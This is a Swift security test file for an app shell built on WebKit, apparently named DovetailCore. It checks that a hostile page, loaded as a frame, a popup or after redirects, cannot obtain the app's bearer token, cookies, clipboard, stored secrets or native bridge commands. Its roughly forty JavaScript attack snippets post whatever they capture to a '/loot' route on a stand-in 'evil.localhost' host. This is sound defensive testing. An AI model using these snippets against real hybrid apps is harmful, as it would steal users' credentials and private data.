import FixtureServer
import Foundation
import FoundationNetworking
import Testing
import WebKit

@testable import DovetailCore

/// Pages of a hostile site, as a frame of the app's page, as a popup, and at the
/// end of a chain of redirects. What they get is what their server gets.
@MainActor
@Suite(.serialized, .timeLimit(.minutes(2)))
struct AttackTests {
  /// How the hostile page comes into the app.
  enum Place: CaseIterable { case frame, popup, chain }

  /// Who says no, and where that is seen.
  enum Refusal: Sendable {
    /// The app, in a line of its log with these words.
    case logged(String)
    /// The engine, before the app hears of it; or there is nothing to say no to.
    case silent(String)

    /// No token goes along.
    static let token = logged("refused to let a token go")
  }

  /// One page: an async function's body, whose result goes to its server.
  struct Attack: CustomTestStringConvertible, Sendable {
    let name: String
    let script: String
    let refusal: Refusal
    /// Where the refusal is not heard of, since it happens in a process that the
    /// window has not taken yet.
    let unheard: Place?

    init(
      _ name: String, _ script: String, _ refusal: Refusal = .token, unheard: Place? = nil
    ) {
      self.name = name
      self.script = script
      self.refusal = refusal
      self.unheard = unheard
    }

    var testDescription: String { name }
  }

  private nonisolated static let text = ".then(r => r.text())"

  /// Where a page load leads, the token goes as a cookie would.
  private nonisolated static let led = Refusal.silent("the engine takes it away from the redirect")

  nonisolated static let attacks = [
    Attack(
      "its own cookies", "return document.cookie", .silent("it has none of the app's to ask for")),
    Attack("fetch of a closed address", "return fetch(APP + '/echo')\(text)"),
    Attack("fetch of an open address", "return fetch(APP + '/open')\(text)"),
    Attack(
      "fetch of an open address without a referrer",
      "return fetch(APP + '/open', { referrerPolicy: 'no-referrer' })\(text)"),
    Attack(
      "fetch with credentials", "return fetch(APP + '/open', { credentials: 'include' })\(text)"),
    Attack(
      "fetch that says it wants a page",
      "return fetch(APP + '/open', { headers: { Accept: 'text/html' } })\(text)"),
    Attack("fetch of the page's own address", "return fetch(APP + '/')\(text)"),
    Attack(
      "XMLHttpRequest",
      """
      return new Promise(done => {
        const x = new XMLHttpRequest(); x.open('GET', APP + '/open');
        x.onloadend = () => done(x.responseText); x.send();
      })
      """),
    Attack("fetch through a redirect of its own", "return fetch('/to-open')\(text)"),
    Attack("fetch that is led back", "return fetch(APP + '/away')\(text)"),
    Attack("a picture that is led back", "await tag('img', 'src', APP + '/away')"),
    Attack("a video that is led back", "await tag('video', 'src', APP + '/away')"),
    Attack("a style that is led back", "await tag('link', 'href', APP + '/away')"),
    Attack("an object that is led back", "await tag('object', 'data', APP + '/away')"),
    Attack("a frame that is led back", "await tag('iframe', 'src', APP + '/away')"),
    Attack("a form that is led back", "post(APP + '/away307')", unheard: .chain),
    Attack("a beacon that is led back", "navigator.sendBeacon(APP + '/away307', 'x')"),
    Attack("leaving, to be led back", "location = APP + '/away'", led),
    Attack("a window that is led back", "window.open(APP + '/away'); await pause(300)", led),
    Attack("a script with what the server knows", "return await script(APP + '/jsonp')"),
    Attack(
      "the same without a referrer",
      """
      document.head.insertAdjacentHTML('beforeend', '<meta name=referrer content=no-referrer>');
      return await script(APP + '/jsonp')
      """),
    Attack(
      "a worker",
      """
      const code = `fetch('${APP}/open').then(r => r.text()).then(postMessage, e => postMessage('' + e))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      return new Promise(done => { worker.onmessage = e => done(e.data) })
      """),
    Attack(
      "a stream of events",
      """
      const events = new EventSource(APP + '/open');
      return new Promise(done => { events.onmessage = e => done(e.data); events.onerror = done })
      """),
    Attack(
      "a service worker",
      """
      await navigator.serviceWorker.register('/worker.js');
      await navigator.serviceWorker.ready;
      return fetch(APP + '/open')\(text)
      """, .silent("the engine shows nobody what a service worker asks for")),
    Attack(
      "the page around it", "return parent.document.cookie + top.document.title",
      .silent("the engine throws")),
    Attack(
      "the window that opened it", "return opener.document.cookie + opener.dovetail.app.id",
      .silent("the engine throws")),
    Attack(
      "a frame of the app",
      """
      const frame = await tag('iframe', 'src', APP + '/echo');
      return frame.contentDocument.body.textContent
      """),
    Attack(
      "window.dovetail", "return JSON.stringify(window.dovetail.app)", .silent("there is none")),
    Attack("a command", "return window.dovetail.invoke('secret')", .silent("there is none")),
    Attack(
      "a message to a command",
      "return webkit.messageHandlers.secret.postMessage('x')", .logged("secret refused from")),
    Attack(
      "what the person has copied",
      "return webkit.messageHandlers['clipboard.read'].postMessage(0)",
      .logged("clipboard.read refused from")),
    Attack(
      "the app's position", "return webkit.messageHandlers['location.current'].postMessage({})",
      .logged("location.current refused from")),
    Attack(
      "what the app's pages keep",
      "return webkit.messageHandlers['preferences.read'].postMessage('key')",
      .logged("preferences.read refused from")),
    Attack(
      "secrets of the app's pages",
      "return webkit.messageHandlers['secrets.read'].postMessage('key')",
      .logged("secrets.read refused from")),
    Attack(
      "a new token",
      "return String(await webkit.messageHandlers['dovetail.token'].postMessage([APP + '/', 1]))",
      .logged("a new token refused to")),
    Attack(
      "the shell's own handlers", "return webkit.messageHandlers.bridge.postMessage('1x')",
      .silent("there are none in a page's world")),
    Attack(
      "dovetail of the page around it", "return JSON.stringify(parent.dovetail.app)",
      .silent("the engine throws")),
    Attack(
      "dovetail of an empty frame",
      """
      const frame = document.body.appendChild(document.createElement('iframe'));
      return JSON.stringify(frame.contentWindow.dovetail.app)
      """, .silent("there is none")),
    Attack(
      "a command by way of an empty frame",
      """
      const frame = document.body.appendChild(document.createElement('iframe'));
      return frame.contentWindow.webkit.messageHandlers.secret.postMessage('x')
      """, .silent("an empty frame has no handlers")),
    Attack(
      "a message that looks like the shell's",
      """
      const got = [];
      addEventListener('message', e => got.push(JSON.stringify(e.data)));
      for (const other of [parent, top, opener])
        other?.postMessage({ dovetail: 1, name: 'secret', id: 1 }, '*');
      await pause(200);
      return got.join();
      """, .silent("it goes to pages, and none of the app's listens")),
    Attack(
      "the position",
      """
      return new Promise(done => navigator.geolocation.getCurrentPosition(
        p => done('sesame ' + p.coords.latitude), e => done('' + e.code)))
      """, .silent("the engine asks for nobody who is not seen; PermissionTests are seen")),
    Attack(
      "the microphone",
      "return navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'sesame')",
      .silent("the engine asks for nobody who is not seen; PermissionTests are seen")),
    Attack(
      "changed built-ins",
      """
      const seen = [];
      for (const name of ['map', 'push', 'join']) {
        const old = Array.prototype[name];
        Array.prototype[name] = function (...a) { seen[seen.length] = a; return old.apply(this, a) };
      }
      await fetch(APP + '/open').catch(() => 0);
      await pause(200);
      return JSON.stringify(seen);
      """),
  ]

  private static let page = """
    <script>
    const APP = 'APP';
    const pause = time => new Promise(done => setTimeout(done, time));
    const tag = (name, key, value) => new Promise(done => {
      const element = document.createElement(name);
      if (name === 'link') element.rel = 'stylesheet';
      element.onload = element.onerror = element.onloadeddata = () => done(element);
      element[key] = value;
      document.documentElement.append(element);
      setTimeout(done, 400, element);
    });
    const script = address => new Promise(done => {
      globalThis.loot = done;
      tag('script', 'src', address).then(() => done('nothing'));
    });
    const post = address => {
      const form = document.createElement('form');
      form.method = 'post'; form.action = address;
      document.documentElement.append(form);
      form.submit();
    };
    const attack = async () => { SCRIPT };
    Promise.race([attack(), pause(1500).then(() => 'late')]).catch(e => 'failed: ' + e)
      .then(text => fetch('/loot', { method: 'POST', body: String(text) }));
    </script>
    """

  private func routes(_ server: FixtureServer, _ attack: Attack) {
    let app = server.origin(host: "app.localhost")
    let evil = server.origin(host: "evil.localhost")
    let html = Self.page.replacingOccurrences(of: "'APP'", with: "'\(app)'")
      .replacingOccurrences(of: "SCRIPT", with: attack.script)
    let known = { @Sendable (request: Request) in
      [request.headers["Authorization"], request.headers["X-Key"], request.headers["Cookie"]]
        .compactMap { $0 }.joined(separator: " ")
    }
    server.html("/attack", html)
    server.redirect("/chain", to: evil + "/hop")
    server.redirect("/hop", to: "/attack")
    server.redirect("/to-open", to: app + "/open")
    server.redirect("/away", to: evil + "/landed")
    server.redirect("/away307", to: evil + "/landed", status: 307)
    server.route("/landed") { _ in
      Response.text("landed").header("Access-Control-Allow-Origin", "*")
    }
    server.route("/loot") { _ in .text("thanks") }
    server.route("/echo") { .text(known($0)) }
    server.route("/open") { request in
      // Bearer tokens are why servers dare to be open to all.
      Response.text(request.headers["Authorization"] ?? "nobody")
        .header("Access-Control-Allow-Origin", request.headers["Origin"] ?? "*")
        .header("Access-Control-Allow-Credentials", "true")
    }
    server.route("/jsonp") { request in
      .javaScript("loot(\"\(request.headers["Authorization"] ?? "nobody")\")")
    }
    server.route("/worker.js", .javaScript("onfetch = e => e.respondWith(fetch(e.request))"))
  }

  @Test(arguments: attacks, Place.allCases)
  func `a hostile page gets no token, no cookie and no command`(
    _ attack: Attack, _ place: Place
  ) async throws {
    let server = try FixtureServer()
    routes(server, attack)
    let hostile = server.url("/attack", host: "evil.localhost")
    server.html("/", place == .frame ? "<iframe src='\(hostile)' allow='*'></iframe>" : "app")
    let app = try HostedApp([:], on: server) { manifest, _ in
      manifest.session.cookies = [.init("sid", "sesame")]
      manifest.navigation.others = .here
      manifest.navigation.popups = [.init(.all, .popup, needsGesture: false)]
      for permission in Permission.allCases { manifest.permissions[permission] = "" }
    }
    let tokens = app.stack.session.tokens
    try tokens.set(Token("sesame"), for: try app.origin())
    tokens.onRefresh = { _, _ in Token("sesame2") }
    app.main.onMessage("secret") { _ in "sesame" }
    for set in StockCommands.all { app.main.commands.add(set) }
    app.host.clipboard = "sesame"
    app.stack.session.secretStore = MemorySecrets()
    try await app.stack.session.pageSecrets.write("sesame", "key")
    try app.stack.preferences.write(try PageValue("sesame"), "key")
    app.host.answer = { $0.answer(.accepted) }

    app.stack.launch()
    switch place {
    case .frame: break
    case .popup:
      _ = await app.main.settled()
      app.run("window.open('\(hostile)')")
    case .chain:
      _ = await app.main.settled()
      app.main.load(server.url("/chain", host: "app.localhost"))
    }
    _ = try await server.nextRequest { ["/loot", "/landed"].contains($0.path) }

    #expect(server.requests.contains { $0.headers["Authorization"] == "Bearer sesame" })
    for request in server.requests where request.host == "evil.localhost" {
      #expect(request.headers["Authorization"] == nil, "\(request.target)")
      #expect(request.cookies["sid"] == nil, "\(request.target)")
      #expect(!request.text.contains("sesame"), "\(request.text)")
      #expect(!request.text.contains("com.example.test"), "\(request.text)")
      #expect(!request.target.contains("sesame"))
    }
    for request in server.requests where request.method == "POST" {
      #expect(request.headers["Authorization"] == nil, "\(request.target)")
    }
    #expect(tokens.token(for: try app.origin()) == Token("sesame"), "nobody asked for another")
    if case .logged(let words) = attack.refusal, attack.unheard != place {
      #expect(await app.logs(words), "\(app.lines.joined(separator: "\n"))")
    }
    app.stack.close(app.main)
  }
}
